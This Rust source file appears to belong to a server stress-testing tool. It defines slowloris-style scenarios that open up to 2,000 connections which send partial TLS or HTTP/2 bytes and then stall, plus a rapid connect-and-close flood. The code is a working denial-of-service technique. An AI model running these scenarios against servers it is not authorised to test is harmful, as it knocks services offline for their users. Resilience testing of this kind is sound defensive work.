//! Connections that begin and then stop.

use std::rc::Rc;
use std::time::Duration;

use futures_util::stream::{self, StreamExt};
use tokio::io::AsyncWriteExt;
use tokio::time::{sleep, timeout_at};

use crate::attacker::Report;
use crate::link::{Target, open};
use crate::scenario::{Rule, Scenario};
use crate::wire::{CONTINUATION, Frames, HEADERS, PREFACE};

/// A fifth of the server's default limit.
const CONNECTIONS: usize = 2000;

/// Connections that open together, and the pause before the next ones. They fit into the backlog,
/// which is not the target of this attack.
const AT_A_TIME: usize = 20;
const PAUSE: Duration = Duration::from_millis(5);

pub(crate) fn scenarios() -> Vec<Scenario> {
    // The head of a TLS record of 512 bytes, and of a ClientHello in it (RFC 8446, 5.1 and 4).
    let hello = vec![22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];
    let headers = Frames::default().add(HEADERS, 0, 1, &[0x83]).0.clone();
    let pieces =
        Frames::default().add(HEADERS, 0, 1, &[0x83]).add(CONTINUATION, 0, 1, &[]).0.clone();
    vec![
        raw("loris-silent", Vec::new()).also_over_tls(),
        raw("loris-client-hello", hello).only_over_tls(),
        raw("loris-half-preface", PREFACE[..10].to_vec()),
        raw("loris-preface", PREFACE.to_vec()),
        behind_handshake("loris-headers", headers),
        behind_handshake("loris-continuation", pieces),
        behind_handshake("loris-idle", Vec::new()),
        come_and_go(),
    ]
}

/// TCP connections with these bytes and no more.
fn raw(name: &str, bytes: Vec<u8>) -> Scenario {
    connections(name, async move |target: Target| {
        let tcp = Target { tls: None, ..target };
        let mut io = tcp.connect().await.ok()?;
        io.write_all(&bytes).await.ok()?;
        Some(io)
    })
}

/// Complete connections, which then send these bytes and no more.
fn behind_handshake(name: &str, bytes: Vec<u8>) -> Scenario {
    connections(name, async move |target: Target| {
        let (reader, writer) = open(&target, 0).await.ok()?;
        writer.send(&bytes).await.ok()?;
        Some((reader, writer))
    })
}

fn connections<C>(name: &str, connect: impl AsyncFn(Target) -> Option<C> + 'static) -> Scenario {
    let connect = Rc::new(connect);
    let scenario = Scenario::new(name, Rule::Bounded, move || {
        let connect = connect.clone();
        async move |target: Target| {
            let all = stream::iter(0..CONNECTIONS).map(async |_| {
                let connection = connect(target.clone()).await;
                sleep(PAUSE).await;
                connection
            });
            let mut all = all.buffer_unordered(AT_A_TIME);
            let mut connections = Vec::new();
            let end = target.until.unwrap();
            while let Ok(Some(connection)) = timeout_at(end, all.next()).await {
                connections.extend(connection);
            }
            target.end().await;
            Report::default().noting(format!("{} connections", connections.len()))
        }
    });
    scenario.beside_new_connections()
}

/// Connections that are closed at once, as many as possible.
fn come_and_go() -> Scenario {
    let scenario = Scenario::new("connections-come-and-go", Rule::Bounded, || {
        async move |target: Target| {
            let tcp = Target { tls: None, ..target.clone() };
            let mut all = stream::repeat(()).map(|()| tcp.connect()).buffer_unordered(50);
            let (mut count, end) = (0, target.until.unwrap());
            while let Ok(Some(_)) = timeout_at(end, all.next()).await {
                count += 1;
            }
            Report::default().noting(format!("{count} connections"))
        }
    });
    scenario.beside_new_connections()
}
